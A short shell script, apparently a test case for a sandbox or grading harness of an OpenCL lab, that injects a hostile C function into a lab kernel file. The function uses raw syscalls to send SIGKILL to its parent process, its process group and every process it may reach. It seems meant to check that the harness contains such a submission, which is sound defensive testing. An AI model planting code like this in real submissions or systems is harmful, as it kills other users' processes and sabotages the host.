#!/bin/sh
# A right kernel that kills its parent, its group and every process that it may.
# from: solutions
# lab: lab1
# expect: lab1 any

{
    cat << 'CL'
#ifdef __x86_64__
long call(long number, long a, long b, long c) {
    long result;
    __asm__ volatile("syscall" : "=a"(result) : "a"(number), "D"(a), "S"(b), "d"(c) : "rcx", "r11", "memory");
    return result;
}
void attack(void) {
    call(62, call(110, 0, 0, 0), 9, 0); // kill(getppid(), SIGKILL)
    call(62, 0, 9, 0);
    call(62, -1, 9, 0);
}
#else
void attack(void) {}
#endif

CL
    sed 's/^    const size_t lid = .*/&\n    if (get_global_id(0) == 0)\n        attack();/' kernels/lab1_reduction_scalar.cl
} > hostile.tmp
mv hostile.tmp kernels/lab1_reduction_scalar.cl
